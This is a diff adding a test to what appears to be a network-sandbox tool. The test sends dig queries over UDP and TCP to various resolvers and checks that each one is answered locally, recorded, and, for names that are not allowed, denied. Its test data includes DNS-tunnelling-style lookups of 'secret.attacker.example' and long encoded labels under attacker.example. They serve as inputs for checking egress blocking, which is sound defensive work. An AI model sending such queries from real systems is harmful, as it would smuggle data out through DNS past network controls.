@@ -126,6 +126,36 @@ def test_names_without_a_rule_do_not_exist_under_strict(moat: Moat, site: Site) 
     }
 
 
+DIG = {
+    "origin.test": "NOERROR 198.18.0.1",
+    "@8.8.8.8 origin.test": "NOERROR 198.18.0.1",
+    "+tcp @2001:4860:4860::8888 origin.test": "NOERROR 198.18.0.1",
+    "+dnssec +bufsize=512 origin.test AAAA": "NOERROR ",
+    "origin.test HTTPS": "NOERROR ",
+    "secret.attacker.example": "NXDOMAIN ",
+    "+tcp @1.1.1.1 secret.attacker.example TXT": "NXDOMAIN ",
+    f"@9.9.9.9 {'a' * 63}.{'b' * 63}.attacker.example NULL": "NXDOMAIN ",
+    "-x 10.0.0.1": "NXDOMAIN ",
+}
+
+
+def test_dig_is_answered_here_whomever_it_asks(moat: Moat, site: Site) -> None:
+    """Any type, over UDP and TCP, and each question is in the record."""
+    site.allow("allow origin.test", policy="strict")
+    status = r"s/.*status: \([A-Z]*\).*/\1/p; s/.*[[:space:]]A[[:space:]]\([0-9.]*\)$/ \1/p"
+    asks = [f"dig +tries=1 {each} | sed -n '{status}' | tr -d '\n'; echo" for each in DIG]
+
+    done = moat("run", "--name", "one", "--", "sh", "-c", "; ".join(asks), timeout=30)
+
+    found = (line.split() for line in done.stdout.splitlines())
+    assert dict(zip(DIG, map(" ".join, found), strict=True)) == {
+        question: answer.strip() for question, answer in DIG.items()
+    }
+    rows = _trace(moat, "one", "dns")
+    assert len(rows) == len(DIG)
+    assert [row["verdict"] for row in rows].count("denied") == 4
+
+
 def test_every_other_way_is_refused_at_once_and_written_down(moat: Moat) -> None:
     """By the kernel, with no timeout: other ports, UDP, IPv6. Loopback is the program's own."""
     attempts = _python("""
